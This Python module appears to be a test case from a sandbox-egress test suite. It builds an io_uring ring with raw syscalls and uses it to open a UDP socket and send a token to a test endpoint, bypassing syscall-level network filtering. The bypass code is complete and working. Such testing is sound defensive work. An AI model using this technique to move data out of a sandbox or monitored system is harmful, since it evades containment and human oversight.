# SPDX-License-Identifier: Apache-2.0
"""System calls that are not made: a ring does the sending."""
import ctypes
import mmap
import os
import socket
import struct

from bypass import INET, Skip

TITLE = "io_uring: socket and send by ring"
THREAT = "53"
SETUP, ENTER = 425, 426
OP_SEND, OP_CONNECT, OP_SOCKET = 26, 16, 45


class Ring:
    def __init__(self):
        self.libc = ctypes.CDLL(None, use_errno=True)
        self.p = bytearray(120)
        view = (ctypes.c_char * 120).from_buffer(self.p)
        self.fd = self.libc.syscall(SETUP, 4, view)
        if self.fd < 0:
            raise OSError(ctypes.get_errno(), "io_uring_setup")
        sq, cq = struct.unpack_from("10I", self.p, 40), struct.unpack_from("10I", self.p, 80)
        size = max(sq[6] + 4 * 4, cq[5] + 16 * 8)
        self.rings = mmap.mmap(self.fd, size, offset=0)
        self.sqes = mmap.mmap(self.fd, 64 * 4, offset=0x10000000)
        self.sq, self.cq = sq, cq

    def call(self, op, fd, address, size, offset=0):
        """One request; its result."""
        tail = struct.unpack_from("I", self.rings, self.sq[1])[0]
        self.sqes[0:64] = struct.pack("BBHiQQIIQ", op, 0, 0, fd, offset, address, size, 0, 1).ljust(64, b"\0")
        struct.pack_into("I", self.rings, self.sq[6] + 4 * (tail % 4), 0)
        struct.pack_into("I", self.rings, self.sq[1], tail + 1)
        if self.libc.syscall(ENTER, self.fd, 1, 1, 1, None, 0) < 0:
            raise OSError(ctypes.get_errno(), "io_uring_enter")
        head = struct.unpack_from("I", self.rings, self.cq[0])[0]
        result = struct.unpack_from("i", self.rings, self.cq[5] + 16 * (head % 8) + 8)[0]
        struct.pack_into("I", self.rings, self.cq[0], head + 1)
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return result


def attack(c):
    with c.step("udp") as token:
        c.apart(lambda: send(c, token))


def send(c, token):
    if os.uname().machine != "x86_64":
        raise Skip("numbers of x86-64")
    ring = Ring()
    fd = ring.call(OP_SOCKET, INET[c.family], 0, 0, socket.SOCK_DGRAM)
    name = struct.pack("=H", INET[c.family]) + struct.pack("!H", 9999)
    name += socket.inet_aton(c.e) + bytes(8) if c.family == 4 else bytes(4) + socket.inet_pton(socket.AF_INET6, c.e) + bytes(4)
    name = ctypes.create_string_buffer(name, len(name))
    ring.call(OP_CONNECT, fd, ctypes.addressof(name), 0, len(name))
    data = ctypes.create_string_buffer(token.encode())
    ring.call(OP_SEND, fd, ctypes.addressof(data), len(token))
